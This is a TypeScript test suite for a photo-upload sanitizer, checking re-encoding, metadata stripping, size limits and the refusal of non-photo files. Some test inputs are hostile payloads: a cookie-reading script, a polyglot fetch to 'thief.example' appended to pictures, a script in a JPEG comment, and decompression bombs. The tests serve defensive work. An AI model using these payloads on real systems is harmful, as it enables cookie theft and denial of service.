import { createHash, randomBytes } from 'node:crypto'
import { availableParallelism } from 'node:os'

import sharp from 'sharp'
import { afterAll, describe, expect, test } from 'vitest'

import { MAX_PHOTO_BYTES } from '@countroom/contract/kernel/photo-limits.ts'

import { pngBomb } from '../../testing/photos.ts'
import { Refusal } from '../refusal.ts'
import { draw, MAX_MEGAPIXELS } from './draw.ts'
import { beginsLikePicture, drawing, pictureOf } from './pictures.ts'

afterAll(() => drawing.stop())

const uploadOf = (bytes: Buffer, displayName = 'face.jpg') => ({
  displayName,
  type: 'image/jpeg',
  data: bytes.toString('base64'),
})
const drawn = (bytes: Buffer) => pictureOf(uploadOf(bytes))

async function refused(bytes: Buffer | string): Promise<Refusal> {
  const upload = typeof bytes === 'string' ? { ...uploadOf(Buffer.of()), data: bytes } : uploadOf(bytes)
  const outcome: unknown = await pictureOf(upload).catch((error: unknown) => error)
  expect(outcome).toBeInstanceOf(Refusal)
  return outcome as Refusal
}

const blank = (width: number, height: number, background = '#3a7') =>
  sharp({ create: { width, height, channels: 3, background } })
const photo = () => blank(640, 480).jpeg().toBuffer()
/** A picture of random pixels, which no encoder can make small. */
const noise = (width: number, height: number) =>
  sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } })

const spliced = (whole: Buffer, at: number, part: Buffer) =>
  Buffer.concat([whole.subarray(0, at), part, whole.subarray(at)])

describe('a picture', () => {
  test.each(['jpeg', 'png', 'webp'] as const)(
    'a %s picture becomes a JPEG named by the hash of its bytes',
    async (format) => {
      const { hash, bytes, width, height } = await drawn(await blank(640, 480).toFormat(format).toBuffer())
      expect(await sharp(bytes.full).metadata()).toMatchObject({ format: 'jpeg', width: 640, height: 480 })
      expect([width, height]).toEqual([640, 480])
      expect(hash).toEqual(createHash('sha256').update(bytes.full).digest())
    },
  )

  test('a large picture is made smaller with the same proportions, and has a small square version', async () => {
    const { bytes, width, height } = await drawn(await blank(4000, 1000).jpeg().toBuffer())
    expect([width, height]).toEqual([1600, 400])
    expect(await sharp(bytes.thumb).metadata()).toMatchObject({ format: 'jpeg', width: 160, height: 160 })
  })

  test('a picture taken with a phone on its side is turned upright', async () => {
    const lying = await blank(640, 480).withMetadata({ orientation: 6 }).jpeg().toBuffer()
    expect(await drawn(lying)).toMatchObject({ width: 480, height: 640 })
  })

  test('a picture keeps no metadata that says where, when and with which camera it was taken', async () => {
    const told = await blank(640, 480)
      .withExif({ IFD0: { Model: 'A telephone' }, IFD3: { GPSLatitude: '29/1 45/1 0/1' } })
      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><secret/></x:xmpmeta>')
      .jpeg()
      .toBuffer()
    expect(await sharp(told).metadata()).toHaveProperty('exif')
    for (const kept of Object.values((await drawn(told)).bytes)) {
      const { exif, xmp, icc, iptc } = await sharp(kept).metadata()
      expect([exif, xmp, icc, iptc]).toEqual([undefined, undefined, undefined, undefined])
    }
  })

  test('a picture with a transparent background gets a white background', async () => {
    const clear = sharp({ create: { width: 20, height: 20, channels: 4, background: '#0000' } })
    const { bytes } = await drawn(await clear.png().toBuffer())
    const { channels } = await sharp(bytes.full).stats()
    expect(channels.map(({ min }) => min)).toEqual([255, 255, 255])
  })

  test('a picture that is sent twice gets the same hash', async () => {
    const bytes = await photo()
    expect((await drawn(bytes)).hash).toEqual((await drawn(bytes)).hash)
  })

  test('a picture of the largest allowed size is drawn', { timeout: 30_000 }, async () => {
    const side = Math.floor(Math.sqrt(MAX_MEGAPIXELS * 1e6))
    expect(await drawn(await blank(side, side).jpeg().toBuffer())).toMatchObject({ width: 1600, height: 1600 })
  })
})

describe('data added to the file of a picture', () => {
  test.each([
    ['a web page', Buffer.from('<html><script>alert(document.cookie)</script></html>')],
    ['a script', Buffer.from('*/=1;fetch("https://thief.example");/*')],
    ['an archive', Buffer.from('PK\x03\x04 payload PK\x05\x06', 'latin1')],
  ])('data at the end of the file of a picture is removed: %s', async (_, tail) => {
    const { bytes } = await drawn(Buffer.concat([await photo(), tail]))
    for (const kept of Object.values(bytes)) expect(kept.includes(tail)).toBe(false)
  })

  test('a script in a comment of the picture is removed', async () => {
    const script = Buffer.from('*/alert(1)/*')
    const comment = Buffer.concat([Buffer.of(0xff, 0xfe, 0, script.length + 2), script])
    const { bytes } = await drawn(spliced(await photo(), 2, comment))
    for (const kept of Object.values(bytes)) expect(kept.includes(script)).toBe(false)
  })
})

describe('an upload that is not a photo', () => {
  const svg = Buffer.from(
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>',
  )
  test.each<[string, () => Buffer | Promise<Buffer>]>([
    ['an SVG', () => svg],
    ['a GIF', () => blank(9, 9).gif().toBuffer()],
    ['a TIFF', () => blank(9, 9).tiff().toBuffer()],
    ['an AVIF', () => blank(9, 9).avif().toBuffer()],
    ['a PDF', () => Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj')],
    ['a web page', () => Buffer.from('<!doctype html><script>alert(1)</script>')],
    ['three bytes of a JPEG', () => Buffer.of(0xff, 0xd8, 0xff)],
    ['a JPEG that is cut off', async () => (await noise(640, 480).jpeg().toBuffer()).subarray(0, 20_000)],
    ['a PNG that is cut off', async () => (await noise(64, 48).png().toBuffer()).subarray(0, 2_000)],
    ['a WebP that is cut off', async () => (await noise(64, 48).webp({ quality: 90 }).toBuffer()).subarray(0, 1_000)],
    ['an SVG that begins like a JPEG', () => Buffer.concat([Buffer.of(0xff, 0xd8, 0xff), svg])],
    [
      'random bytes that begin like a WebP',
      () => Buffer.concat([Buffer.from('RIFF\x10\0\0\0WEBPVP8 '), randomBytes(64)]),
    ],
    ['a JPEG with a script before its first part', async () => spliced(await photo(), 2, Buffer.from('*/alert(1)/*'))],
    ['random bytes', () => randomBytes(2_000)],
  ])('an upload that cannot be used as a photo is refused: %s', async (_, make) => {
    const { code, message } = await refused(await make())
    expect(code).toBe('photo.unreadable')
    expect(message).toBe('face.jpg cannot be used as a photo. Take a JPEG, PNG or WebP picture.')
  })

  test('a picture whose text is not exact base64 is refused, although a lenient decoder would accept the text', async () => {
    const { data } = uploadOf(await photo())
    const urlSafe = `${data.slice(0, 40)}-${data.slice(41)}`
    for (const broken of [
      `${data.slice(0, 40)}*${data.slice(40)}`,
      urlSafe,
      `data:image/jpeg;base64,${data}`,
      `${data}=`,
    ])
      expect((await refused(broken)).code).toBe('photo.unreadable')
  })

  test('an empty file is refused', async () => {
    expect((await refused('')).code).toBe('photo.unreadable')
  })
})

describe('an upload that is too large', () => {
  test('a small file whose picture would fill the memory is refused without being unpacked', async () => {
    const bomb = pngBomb(40_000, 40_000)
    expect(bomb.length).toBeLessThan(300_000)
    const { code, message } = await refused(bomb)
    expect([code, message]).toEqual([
      'photo.tooLarge',
      'face.jpg is too large. A photo can have at most 52 megapixels; take a smaller one.',
    ])
    const before = process.memoryUsage.rss()
    expect(await draw(bomb)).toEqual({ limit: '52 megapixels' })
    expect(process.memoryUsage.rss() - before).toBeLessThan(100e6)
  })

  test('a very long picture with a single column or a single row of pixels is refused', async () => {
    const { code, message } = await refused(pngBomb(1, 2_000_000))
    expect([code, message]).toEqual([
      'photo.tooLarge',
      'face.jpg is too large. A photo can have at most 16,384 pixels a side; take a smaller one.',
    ])
    expect((await refused(pngBomb(2_000_000, 1))).code).toBe('photo.tooLarge')
  })

  test('a file of 40 MB is refused', async () => {
    const { code, message } = await refused(Buffer.concat([await photo(), Buffer.alloc(40e6)]))
    expect([code, message]).toEqual([
      'photo.tooLarge',
      'face.jpg is too large. A photo can have at most 8 MB; take a smaller one.',
    ])
  })

  test('a file that is one byte over the limit is refused, and a file at the limit is accepted', async () => {
    const whole = await photo()
    const filled = (length: number) => Buffer.concat([whole, Buffer.alloc(length - whole.length)])
    expect((await refused(filled(MAX_PHOTO_BYTES + 1))).code).toBe('photo.tooLarge')
    expect((await drawn(filled(MAX_PHOTO_BYTES))).width).toBe(640)
  })
})

test('of many pictures sent at the same time, two are drawn at a time, or one on a machine with one or two cores', async () => {
  const large = await blank(3000, 2000).jpeg().toBuffer()
  let most = 0
  const watch = setInterval(() => (most = Math.max(most, drawing.running)), 1)
  await Promise.all(Array.from({ length: 8 }, () => drawn(large)))
  clearInterval(watch)
  expect(most).toBe(Math.min(2, Math.max(1, availableParallelism() - 1)))
})

test('when a client disconnects while other pictures are drawn, the client’s picture leaves the line and is not drawn', async () => {
  const large = await blank(3000, 2000).jpeg().toBuffer()
  let done = 0
  const others = [drawn(large), drawn(large)].map((drawing) => drawing.finally(() => (done += 1)))
  const gone = new AbortController()
  const waiting = pictureOf(uploadOf(large), gone.signal)
  waiting.catch(() => {})
  await new Promise(setImmediate)
  gone.abort(new Refusal('request.abandoned'))
  await expect(waiting).rejects.toMatchObject({ code: 'request.abandoned' })
  expect(done).toBe(0)
  await Promise.all(others)
  await expect(pictureOf(uploadOf(large), gone.signal)).rejects.toMatchObject({ code: 'request.abandoned' })
})

test('the message about an upload without a file name begins with "The file"', async () => {
  const outcome: unknown = await pictureOf(uploadOf(randomBytes(9), ' ')).catch((error: unknown) => error)
  expect((outcome as Refusal).message).toMatch(/^The file cannot be used as a photo/)
})

describe('before a picture is read', () => {
  test('the first bytes of a file tell whether the file is a JPEG, PNG or WebP', async () => {
    expect(beginsLikePicture(await photo())).toBe(true)
    expect(beginsLikePicture(await blank(9, 9).png().toBuffer())).toBe(true)
    expect(beginsLikePicture(await blank(9, 9).webp().toBuffer())).toBe(true)
    expect(beginsLikePicture(await blank(9, 9).gif().toBuffer())).toBe(false)
    expect(beginsLikePicture(Buffer.from('RIFF\x10\0\0\0WAVEfmt ', 'latin1'))).toBe(false)
    expect(beginsLikePicture(Buffer.of())).toBe(false)
  })

  test('the image library itself refuses formats other than JPEG, PNG and WebP, such as TIFF and SVG', async () => {
    const tiff = await blank(9, 9).tiff().toBuffer()
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>')
    for (const shut of [tiff, svg]) await expect(sharp(shut).metadata()).rejects.toThrow(/unsupported image format/)
  })
})
